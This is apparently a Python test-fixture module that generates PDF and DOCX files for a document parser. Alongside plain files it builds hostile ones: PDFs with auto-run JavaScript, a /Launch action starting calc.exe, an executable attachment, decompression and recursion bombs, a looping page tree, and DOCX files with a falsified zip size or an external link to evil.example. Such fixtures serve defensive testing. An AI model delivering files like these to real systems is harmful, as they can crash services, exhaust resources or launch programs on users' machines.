"""PDFs and Word documents made by code: plain ones, and those that want to harm whoever opens them."""

import io
import zipfile
import zlib
from collections.abc import Mapping
from typing import Final

from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from tests.files.pictures import page, saved

WORDS: Final = "Bank statement 2026"
FONT: Final = "/Resources << /Font << /F1 3 0 R >> >>"
SCRIPT: Final = "<< /S /JavaScript /JS (app.alert\\(1\\);) >>"


def raw_pdf(objects: list[bytes], root: int = 1) -> bytes:
    """A PDF of these objects, numbered from 1, with a right cross-reference table."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, start)
    return bytes(out)


def stream(body: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(body), extra, body)


def pdf(pages: int = 1, words: str = WORDS, box: str = "0 0 595 842", root: str = "", content: bytes = b"") -> bytes:
    """Pages of text; ``root`` goes into the catalogue."""
    kids = " ".join(f"{5 + n} 0 R" for n in range(pages))
    drawn = content or f"BT /F1 24 Tf 72 700 Td ({words}) Tj ET".encode()
    leaf = f"<< /Type /Page /Parent 2 0 R /MediaBox [{box}] /Contents 4 0 R {FONT} >>"
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {root} >>".encode(),
        f"<< /Type /Pages /Count {pages} /Kids [{kids}] >>".encode(),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        stream(drawn),
        *([leaf.encode()] * pages),
    ]
    return raw_pdf(objects)


def scanned_pdf() -> bytes:
    return saved(page(900, 1200), "PDF")


def written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def locked_pdf(user: str = "secret", owner: str = "owner") -> bytes:
    """With a password to open it, or with ``user`` empty only against editing."""
    writer = PdfWriter(clone_from=io.BytesIO(pdf()))
    writer.encrypt(user, owner, algorithm="AES-256")
    return written(writer)


def script_pdf() -> bytes:
    return pdf(root=f"/Names << /JavaScript << /Names [(a) {SCRIPT}] >> >>")


def opening_script_pdf() -> bytes:
    return pdf(root=f"/OpenAction {SCRIPT}")


def attachment_pdf() -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(pdf()))
    writer.add_attachment("run.exe", b"MZ" + bytes(100))
    return written(writer)


def launch_pdf(in_link: bool = False) -> bytes:
    """Starts a program when opened, or when a link on its page is pressed."""
    launch = DictionaryObject({NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")})
    writer = PdfWriter(clone_from=io.BytesIO(pdf()))
    if in_link:
        link = DictionaryObject({NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): launch})
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    else:
        writer.root_object[NameObject("/OpenAction")] = writer._add_object(launch)
    return written(writer)


def endless_pdf() -> bytes:
    """Forms that draw each other ten times, twelve deep: a trillion strokes in two kilobytes."""
    depth = 12
    first = 5
    page_resources = f"/Resources << /XObject << /X {first} 0 R >> >>"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R {page_resources} >>".encode(),
        stream(b"/X Do"),
    ]
    for level in range(depth):
        inner = f"/Resources << /XObject << /X {first + level + 1} 0 R >> >>" if level + 1 < depth else ""
        body = b"/X Do " * 10 if inner else b"0 0 m 500 500 l 300 700 100 20 9 9 c S " * 10
        objects.append(stream(body, f"/Type /XObject /Subtype /Form /BBox [0 0 600 800] {inner}".encode()))
    return raw_pdf(objects)


def flood_pdf(side: int = 20_000) -> bytes:
    """A page with one picture of 400 megapixels that packs to almost nothing."""
    packer = zlib.compressobj(9)
    body = b"".join(packer.compress(bytes(side)) for _ in range(side)) + packer.flush()
    form = f"/Type /XObject /Subtype /Image /Width {side} /Height {side} /ColorSpace /DeviceGray"
    resources = "/Resources << /XObject << /X 5 0 R >> >>"
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R {resources} >>".encode(),
            stream(b"600 0 0 800 0 0 cm /X Do"),
            stream(body, f"{form} /BitsPerComponent 8 /Filter /FlateDecode".encode()),
        ]
    )


def looping_pdf() -> bytes:
    """A page tree that contains itself."""
    return raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count 1 /Kids [2 0 R 2 0 R] >>"])


PARTS: Final[Mapping[str, bytes]] = {
    "[Content_Types].xml": b'<?xml version="1.0"?><Types><Default ContentType="application/xml"/></Types>',
    "_rels/.rels": b'<Relationships><Relationship Id="r1" Target="word/document.xml"/></Relationships>',
    "word/document.xml": "<w:document><w:body><w:p><w:r><w:t>在职</w:t></w:r><w:r><w:t>证明 &amp; "
    "income</w:t></w:r></w:p><w:p><w:t>second line</w:t></w:p></w:body></w:document>".encode(),
}


def archive(parts: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, body in parts.items():
            packed.writestr(name, body)
    return out.getvalue()


def docx() -> bytes:
    return archive(PARTS)


def docx_with(name: str, body: bytes) -> bytes:
    return archive({**PARTS, name: body})


def linked_docx(relation: str, external: bool) -> bytes:
    mode = 'TargetMode="External"' if external else ""
    link = f'<Relationship Type="http://x/{relation}" Target="http://evil.example/a" {mode}/>'
    return docx_with("word/_rels/settings.xml.rels", f"<Relationships>{link}</Relationships>".encode())


def locked_docx() -> bytes:
    """As some tools write it: a plain zip whose entries carry the encryption bit."""
    whole = bytearray(docx())
    for signature, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = whole.find(signature)
        while place >= 0:
            whole[place + flags] |= 1
            place = whole.find(signature, place + 4)
    return bytes(whole)


def lying_docx() -> bytes:
    """The directory claims ten bytes for a part that unpacks to thirty megabytes."""
    whole = bytearray(docx_with("word/document.xml", bytes(30 * 1024 * 1024)))
    place = whole.rfind(b"PK\x01\x02", 0, whole.rfind(b"word/document.xml"))
    whole[place + 24 : place + 28] = (10).to_bytes(4, "little")
    return bytes(whole)
